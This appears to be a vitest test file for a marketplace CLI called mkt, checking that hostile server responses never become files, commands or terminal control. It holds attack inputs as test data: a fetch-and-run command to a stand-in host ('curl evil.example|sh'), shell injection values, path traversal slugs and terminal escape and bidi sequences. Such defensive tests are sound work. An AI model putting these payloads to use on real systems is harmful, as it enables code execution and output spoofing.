// A marketplace that lies: what it sends becomes no file, no command and no control of the terminal.
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HIDDEN_CHARACTERS, type RouteId } from '@mkt/protocol';
import { formatSigningSecret } from '@mkt/protocol/signing';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CALLS } from '../../client/src/generated/calls.ts';
import { RESPONSES, type CallId } from '../../client/test/records.ts';
import { COMMANDS } from '../src/cli/command-table.ts';
import {
  API_KEY,
  fakeMarketplace,
  type FakeMarketplace,
  type ReceivedRequest,
  type Reply,
} from './fake-marketplace.ts';
import { apiKey, me, order, ownListing } from './records.ts';
import { runMkt, type RunOptions } from './run-mkt.ts';

const GOOD = formatSigningSecret(new Uint8Array(32).fill(1));
const CODE = 'whsec_$(curl evil.example|sh)';

let cwd: string;
beforeEach(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'mkt-hostile-'));
});
afterEach(() => rm(cwd, { recursive: true }));

/** Runs a command against a marketplace that sends this response to every request. */
async function against(body: unknown, argv: readonly string[], options: RunOptions = {}) {
  await using market = await fakeMarketplace(() => ({ body }));
  return await runMkt(argv, { cwd, ...options, env: { ...market.env, ...options.env } });
}

describe('a record with a text that is no id, slug or time', () => {
  const argv = ['listings', 'edit', 'weather', '--yes'];
  // The editor would touch the file that it is given, and a broken one would name its folder.
  const env = { EDITOR: 'touch', TERM: 'dumb' };

  it.each([
    '../../work/package',
    '/etc/cron.d/x',
    'x"; touch pwned; "',
    '..\\..\\work',
    'a\u001b[2K',
    'A'.repeat(65),
    '',
  ])('the slug %j is neither a file nor printed', async (slug) => {
    const { code, stderr, stdout } = await against({ ...ownListing, slug }, argv, {
      env,
      isTerminal: true,
    });
    expect([code, stdout]).toEqual([7, '']);
    expect(stderr).toMatch(
      /^✖ http:\/\/[\w.:]+ is not a mkt marketplace, .* returned 200, but slug is ".* instead of a slug\./,
    );
    expect(await readdir(cwd)).toEqual([]);
  });

  it.each([
    ['orders show', { ...order(), listingId: '../../x' }],
    ['orders show', { ...order(), completedAt: '$(id)' }],
    ['webhooks show', { ...(RESPONSES.getWebhook as object), url: 'file:///etc/passwd' }],
    ['keys list', { data: [{ ...apiKey, id: '--all' }], nextCursor: null }],
    ['orders list', { data: [], nextCursor: '"; id' }],
    ['whoami', { ...me, scopes: ['order:read\u202e'] }],
  ])('ends mkt %s: %j', async (command, body) => {
    const words = command.split(' ');
    const { code, stdout, stderr } = await against(
      body,
      words[1] === 'show' ? [...words, 'x'] : words,
    );
    expect([code, stdout]).toEqual([7, '']);
    expect(stderr).toContain('is not a mkt marketplace');
  });
});

describe('an invalid signing secret', () => {
  const body = (secret: unknown) => ({
    slug: 'a',
    secret,
    createdAt: '2026-11-21T00:00:00Z',
    previousExpiresAt: null,
  });

  it.each([
    ['pull', ['secrets', 'pull', 'a']],
    ['pull --print-secret', ['secrets', 'pull', 'a', '--print-secret']],
    ['pull --print-secret --json', ['secrets', 'pull', 'a', '--print-secret', '--json']],
    ['pull --no-secret-file', ['secrets', 'pull', 'a', '--no-secret-file']],
    ['rotate', ['secrets', 'rotate', 'a']],
  ])('is neither written nor printed: %s', async (_, argv) => {
    for (const secret of [CODE, `${GOOD}\nA=1`, `${GOOD};id`, GOOD.replace('whsec', 'WHSEC')]) {
      const { code, stdout, stderr } = await against(body(secret), argv);
      expect([code, stdout]).toEqual([7, '']);
      expect(stderr).toContain('secret is not a signing secret');
      expect(stderr).not.toContain('evil.example');
      expect(await readdir(cwd)).toEqual([]);
    }
  });

  it('is distinguished from a valid one', async () => {
    const { code, stdout } = await against(body(GOOD), ['secrets', 'pull', 'a', '--print-secret']);
    expect([code, stdout]).toEqual([0, `MKT_SIGNING_SECRET=${GOOD}\n`]);
  });
});

describe('what a marketplace sends', () => {
  it('is printed as a new API key only if it is one', async () => {
    const argv = ['keys', 'create', '--name', 'k', '--scopes', 'order:read'];
    const bad = await against({ ...apiKey, key: '$(id)' }, argv);
    expect([bad.code, bad.stdout]).toEqual([7, '']);
    const good = await against({ ...apiKey, key: API_KEY }, argv);
    expect([good.code, good.stdout]).toEqual([0, `${API_KEY}\n`]);
  });

  it('is the key, or the session if there is no key', async () => {
    const key = await against(me, ['whoami']);
    expect(key.stdout).toMatch(new RegExp(`key +${me.keyId} \\(MKT_API_KEY\\)`));
    const session = await against({ ...me, keyId: null, sessionId: 's-1' }, ['whoami']);
    expect(session.stdout).toMatch(/session +s-1 \(MKT_API_KEY\)/);
    expect(session.stdout).not.toContain('null');
  });
});

/** A window title, a colour, a cleared screen, C1, bidi, nothing visible, tags, and three line breaks. */
const HOSTILE =
  'x\u001b]0;OWNED\u0007\u001b[35m\u001b[2J\u009b31m\u202e\u200b\u{e0041}\u{e0042}\ufeff\u2028\u0085\r\nFORGED $(id)';

const FREE =
  /^(title|description|category|unit|tags|name|keyName|message|errorMessage|sellerMessage|error|path|fix|code|keyword|lastFour|prefix|disabledReason|reviewRejectionReason|from|to|metadata|requestBody|result|requestExampleJson|responseExampleJson)$/;

/** A copy in which every text that may be anything is hostile. */
function poisoned(value: unknown, isFree = false): unknown {
  if (typeof value === 'string') return isFree ? value + HOSTILE : value;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, isFree));
  if (value === null || typeof value !== 'object') return value;
  const entries = Object.entries(value).map(([name, inner]) => [
    isFree ? name + HOSTILE : name,
    // The range of statistics has the names of a change's two values.
    poisoned(
      inner,
      isFree ||
        (FREE.test(name) && !(name in value && 'totals' in value && /^(from|to)$/.test(name))),
    ),
  ]);
  return Object.fromEntries(entries) as unknown;
}

const SCHEMA = {
  type: 'object',
  title: HOSTILE,
  description: HOSTILE,
  properties: { [HOSTILE]: { enum: [HOSTILE], description: HOSTILE, default: HOSTILE } },
};

const CHECK = {
  name: HOSTILE,
  ok: false,
  level: 'required',
  outcome: 'failed',
  message: HOSTILE,
  fix: HOSTILE,
};
const FLAGGED = { status: 'flagged', reviewRejectionReason: HOSTILE, reviewChecks: [CHECK] };

/** The example of each response, with schemas, and all of it poisoned. */
function bodyOf(id: CallId): unknown {
  const clean = structuredClone(RESPONSES[id]) as Record<string, unknown> | undefined;
  const body = poisoned(clean) as Record<string, unknown>;
  const listings = [
    body,
    ...(Array.isArray(body['data']) ? (body['data'] as (typeof body)[]) : []),
  ];
  for (const { runContract } of listings) {
    if (runContract) Object.assign(runContract, { inputSchema: SCHEMA, outputSchema: SCHEMA });
  }
  // Publishing waits until a review has ended.
  if ('reviewChecks' in body) Object.assign(body, FLAGGED);
  return body;
}

const ROUTES = (Object.entries(CALLS) as [RouteId, (typeof CALLS)[RouteId]][]).map(
  ([id, { method, path, success }]) => ({
    id,
    method,
    status: success.status,
    pattern: new RegExp(`^${path.replaceAll(/\{\w+\}/g, '[^/]+')}$`),
  }),
);

function poisonedReply({ method, path }: ReceivedRequest): Reply {
  const [pathname = ''] = path.split('?');
  const route = ROUTES.find((each) => each.method === method && each.pattern.test(pathname));
  if (!route || route.status === 204) return { status: route?.status ?? 404 };
  return { status: route.status, body: bodyOf(route.id as CallId) };
}

const poisonedError: Reply = {
  status: 400,
  headers: { 'x-request-id': 'r' },
  body: {
    error: `No ${HOSTILE}`,
    type: 'invalid_request',
    details: [{ path: `/${HOSTILE}`, message: HOSTILE }],
    checks: [CHECK],
    requestId: HOSTILE,
  },
};

/** Every command that prints what a marketplace sent. */
const RUNS = [
  'preview --service-url http://127.0.0.1:1',
  'publish --service-url http://127.0.0.1:1 --yes',
  'listings list',
  'listings edit x --title New --yes',
  'listings create -',
  'listings show x',
  'listings show x --verbose',
  'listings submit x --no-wait',
  'listings delete x --yes',
  'listings history x',
  'listings pause x',
  'listings resume x',
  'listings archive x --yes',
  'secrets pull x',
  'secrets rotate x --yes',
  'profile show',
  'profile set --name x',
  'sales',
  'sales list',
  'sales show x',
  'doctor --service-url http://127.0.0.1:1',
  'search x',
  'run x --input {} --yes',
  'run x --input {} --yes --no-wait',
  'run x --inputs -',
  'orders list',
  'orders show x',
  'orders wait x',
  'orders cancel x',
  'orders replay x --service-url http://127.0.0.1:1 --yes',
  'webhooks create https://buyer.example/hook',
  'webhooks list',
  'webhooks show x',
  'webhooks update x --state paused',
  'webhooks test x',
  'webhooks attempts x',
  'webhooks delivery x',
  'webhooks send-again x',
  'webhooks rotate x --yes',
  'webhooks delete x --yes',
  'usage',
  'usage --by listing',
  'usage --by key --csv',
  'keys list',
  'keys create --name x --scopes order:read',
  'keys update x --name y',
  'keys revoke x --yes',
  'whoami',
  'types x',
  'api GET /v1/providers',
];
/** These print nothing that a marketplace sent, or have tests of their own. */
const OTHERS = new Set(['init', 'dev', 'validate', 'completion', 'login', 'logout', 'mcp']);

/** The styles that mkt uses: everything else that looks like one was injected. */
// oxlint-disable-next-line no-control-regex
const OWN_STYLES = /\u001b\[(?:[12]|22|3[123]|39|40|97|49)m/g;

/** What a terminal would act on, and lines that someone else began. */
function actedOn(text: string): string[] {
  const withoutStyles = text.replaceAll(OWN_STYLES, '');
  const hidden = [...withoutStyles.matchAll(HIDDEN_CHARACTERS)].flatMap(([run]) => Array.from(run));
  const forged = text.match(/^FORGED.*/gm) ?? [];
  return [...hidden.filter((character) => !/[\n\t]/.test(character)), ...forged];
}

describe('the output of every command, if every text of a marketplace is hostile', () => {
  let market: FakeMarketplace;
  let reply: (request: ReceivedRequest) => Reply;
  beforeAll(async () => {
    market = await fakeMarketplace((request) => reply(request));
  });
  afterAll(() => market.close());

  it('is tested for every command', () => {
    const named = COMMANDS.filter(({ kind }) => kind === 'own').map(({ name }) => name);
    const isRun = (name: string) =>
      RUNS.some((line) => line === name || line.startsWith(`${name} `));
    expect(named.filter((name) => !isRun(name) && !OTHERS.has(name))).toEqual([]);
  });

  const run = (line: string, options: RunOptions = {}) =>
    runMkt(line.split(' '), {
      cwd,
      stdin: '{}',
      ...options,
      env: { ...market.env, ...options.env },
    });

  it.each(RUNS)('has nothing that a terminal acts on: mkt %s', async (line) => {
    reply = poisonedReply;
    const options = { isTerminal: !line.endsWith(' -'), env: { CI: '1', FORCE_COLOR: '1' } };
    const { code, stdout, stderr } = await run(line, options);
    // No record was refused by the client, so all of them were printed.
    expect(stderr).not.toMatch(/is not a mkt marketplace|Unexpected error/);
    expect(code).not.toBe(null);
    expect(actedOn(stdout)).toEqual([]);
    expect(actedOn(stderr)).toEqual([]);
  });

  it.each(RUNS)('is exact JSON in printable characters: mkt %s --json', async (line) => {
    reply = poisonedReply;
    const { stdout } = await run(`${line} --json`.replace('--csv --json', '--json'));
    expect(actedOn(stdout)).toEqual([]);
    for (const each of stdout.split('\n').filter(Boolean)) JSON.parse(each);
  });

  it.each(RUNS)('is printable in an error: mkt %s', async (line) => {
    reply = () => poisonedError;
    const { stdout, stderr } = await run(`${line} --verbose`, { env: { FORCE_COLOR: '1' } });
    expect(actedOn(stdout + stderr)).toEqual([]);
    const json = await run(`${line} --json`.replace('--csv --json', '--json'));
    expect(actedOn(json.stdout + json.stderr)).toEqual([]);
  });

  it('keeps every character in JSON', async () => {
    reply = poisonedReply;
    const { stdout } = await run('listings show x --json');
    expect(JSON.parse(stdout)).toEqual(bodyOf('getProvider'));
  });
});
